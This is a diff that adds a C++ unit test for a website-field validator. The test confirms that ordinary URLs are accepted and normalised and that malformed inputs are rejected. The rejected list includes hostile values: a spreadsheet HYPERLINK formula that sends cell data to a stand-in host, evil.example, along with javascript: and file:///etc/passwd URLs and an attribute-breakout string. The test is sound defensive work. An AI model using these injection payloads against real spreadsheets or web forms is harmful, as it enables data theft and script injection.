@@ -510,3 +510,30 @@ TEST_CASE("Name keys ignore case, width, spaces and punctuation", "[core][valida
   CHECK(dosti::NameKey("华为\u200B技术") == "华为技术");  // an invisible zero-width space
   CHECK(dosti::NameKey("...").empty());
 }
+
+TEST_CASE("A website must look like a web address", "[core][validation][website]") {
+  for (std::string_view ok :
+       {"https://www.huawei.com", "http://systemsltd.com/en/about?x=1#top", "huawei.com",
+        "www.systemsltd.com:8080/pk", "HTTPS://WWW.Huawei.COM", "华为.中国", "203.0.113.7/x"}) {
+    INFO(ok);
+    auto r = dosti::CheckWebsite(ok);
+    REQUIRE(r);
+    CHECK(*r == ok);  // kept as given
+  }
+  // Full-width letters and the ideographic full stop of a Chinese IME become ASCII.
+  CHECK(dosti::CheckWebsite("ｗｗｗ。huawei。com") == std::string("www.huawei.com"));
+  CHECK(dosti::CheckWebsite("  huawei.com  ") == std::string("huawei.com"));
+  for (std::string_view bad :
+       {"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "javascript:alert(1)",
+        "file:///etc/passwd", "mailto:info@huawei.com", "https://user@huawei.com",
+        "www.huawei .com", "huawei", "localhost:8080", "http://", "https://-huawei.com",
+        "http://huawei.com\"onclick", "<huawei.com>", "1.2.3.4.5", "huawei.123", "@SUM(1,2)",
+        "+huawei.com", ""}) {
+    INFO(bad);
+    auto r = dosti::CheckWebsite(bad);
+    REQUIRE_FALSE(r);
+    CHECK(r.error().code == ErrorCode::kInvalid);
+    CHECK(r.error().key == "enterprise.bad_website");
+    CHECK(r.error().field == "website");
+  }
+}
